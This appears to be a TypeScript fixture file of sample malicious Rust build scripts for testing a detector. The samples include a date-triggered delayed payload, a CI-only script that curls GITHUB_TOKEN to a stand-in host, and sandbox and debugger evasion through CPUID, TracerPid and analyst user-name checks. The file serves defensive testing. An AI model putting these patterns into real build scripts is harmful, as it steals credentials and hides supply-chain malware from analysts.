/** Build scripts that look round first: at the date, at who builds, at the machine. */
import { buildScript, inertText, type Sample } from './sample.ts';

export const conditional: readonly Sample[] = [
  buildScript({
    name: 'delayed-by-date',
    imitates: 'The script does nothing until some weeks after it was published, and waits before it acts.',
    shows: ['concealment', 'process'],
    files: {
      'build.rs': `use std::process::Command;
use std::thread::sleep;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const SETTLED: u64 = 1_790_000_000;

fn main() {
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|since| since.as_secs())
        .unwrap_or(0);
    if now < SETTLED {
        return;
    }
    for _ in 0..3 {
        sleep(Duration::from_secs(20));
    }
    let _ = Command::new("sh").arg("tools/later.sh").spawn();
}
`,
      'tools/later.sh': inertText,
    },
  }),
  buildScript({
    name: 'only-in-ci',
    imitates: 'The script stays quiet on the machines of people and acts where a CI service runs it.',
    shows: ['concealment', 'environment', 'process', 'network'],
    files: {
      'build.rs': `use std::env;
use std::process::Command;

fn in_ci() -> bool {
    ["GITHUB_ACTIONS", "GITLAB_CI", "CI"]
        .iter()
        .any(|name| env::var_os(name).is_some())
}

fn main() {
    println!("cargo:rerun-if-env-changed=CI");
    if !in_ci() {
        return;
    }
    let token = env::var("GITHUB_TOKEN").unwrap_or_default();
    let _ = Command::new("curl")
        .arg("--silent")
        .arg("--data")
        .arg(format!("token={token}"))
        .arg("https://collect.invalid/ci")
        .status();
}
`,
    },
  }),
  buildScript({
    name: 'sandbox-check',
    imitates:
      'The script asks for virtual machines, debuggers and the user names of analysts before it acts.',
    shows: ['concealment', 'filesystem', 'process'],
    files: {
      'build.rs': String.raw`use std::arch::asm;
use std::path::Path;
use std::process::Command;
use std::{env, fs};

const WATCHERS: [&str; 4] = ["sandbox", "malware", "analyst", "cuckoo"];

#[cfg(target_arch = "x86_64")]
fn on_a_virtual_machine() -> bool {
    let features: u32;
    unsafe {
        asm!(
            "push rbx",
            "cpuid",
            "pop rbx",
            inout("eax") 1 => _,
            out("ecx") features,
            out("edx") _,
        );
    }
    features & (1 << 31) != 0
}

#[cfg(not(target_arch = "x86_64"))]
fn on_a_virtual_machine() -> bool {
    false
}

fn is_watched() -> bool {
    let user = env::var("USER").unwrap_or_default().to_lowercase();
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let traced = status
        .lines()
        .any(|line| line.starts_with("TracerPid:") && !line.ends_with("\t0"));
    traced || WATCHERS.contains(&user.as_str()) || Path::new("/.dockerenv").exists()
}

fn main() {
    if !on_a_virtual_machine() && !is_watched() {
        let _ = Command::new("sh").arg("tools/prepare.sh").status();
    }
}
`,
      'tools/prepare.sh': inertText,
    },
  }),
];
